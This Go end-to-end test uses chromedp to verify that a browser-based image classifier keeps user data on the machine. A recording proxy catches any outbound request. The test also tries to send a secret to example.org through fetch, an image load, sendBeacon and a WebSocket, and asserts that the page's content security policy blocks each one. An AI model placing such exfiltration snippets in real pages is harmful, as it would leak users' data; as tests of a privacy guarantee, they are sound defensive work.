package e2e

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// chromiumsOwn are where Chromium itself calls for updates and autofill, whatever page is open and whatever flags say.
var chromiumsOwn = []string{".google.com", ".googleapis.com", ".gvt1.com"}

// TestNothingLeavesTheMachine classifies a picture in a browser whose every request to another machine would pass a
// recorder, and then tries on purpose to send something: the page's own policy refuses it.
func TestNothingLeavesTheMachine(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var outside []string
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "no way out", http.StatusForbidden)
		for _, own := range chromiumsOwn {
			if host, _, _ := strings.Cut(r.Host, ":"); strings.HasSuffix(host, own) {
				return
			}
		}
		mu.Lock()
		defer mu.Unlock()
		outside = append(outside, r.Method+" "+r.Host)
	}))
	defer proxy.Close()
	seen := func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), outside...)
	}

	s := serve(t)
	p := launchChromium(t, map[string]any{"proxy-server": proxy.URL}).open(t, s.url+"?device=cpu")
	p.model()
	s.requests()
	p.run(chromedp.SendKeys("[data-testid=label-input]", "secret label,"))
	p.drop(photo("coffee.png"))
	p.settled(1)
	for _, path := range s.requests() {
		if path != "sw.js" { // the browser looks for a newer one when it sees fit
			t.Errorf("classifying asked its own server for %q", path)
		}
	}
	before := seen()
	for _, request := range before {
		t.Errorf("the browser went out: %s", request)
	}

	// The page's policy, not good manners, keeps it so.
	for what, send := range map[string]string{
		"fetch":     "fetch('http://example.org/', { method: 'POST', body: 'secret' })",
		"a picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('blocked')); i.src = 'http://example.org/secret.png'; })",
		"a beacon":  "Promise.resolve(navigator.sendBeacon('http://example.org/', 'secret')).then((sent) => { if (!sent) throw new Error('blocked'); })",
		"a socket":  "new Promise((yes, no) => { const w = new WebSocket('ws://example.org/'); w.onopen = yes; w.onerror = () => no(new Error('blocked')); })",
	} {
		if blocked := eval[string](p, `(async () => {
			const violation = new Promise((yes) => document.addEventListener('securitypolicyviolation', (e) => yes(e.violatedDirective), { once: true }));
			try { await (`+send+`); } catch {}
			return Promise.race([violation, new Promise((yes) => setTimeout(() => yes(''), 60_000))]);
		})()`); !strings.HasPrefix(blocked, "connect-src") && !strings.HasPrefix(blocked, "img-src") {
			t.Errorf("%s was not refused by the page's policy (%q)", what, blocked)
		}
	}
	if after := seen(); len(after) != len(before) {
		t.Errorf("something got out: %q", after)
	}
}
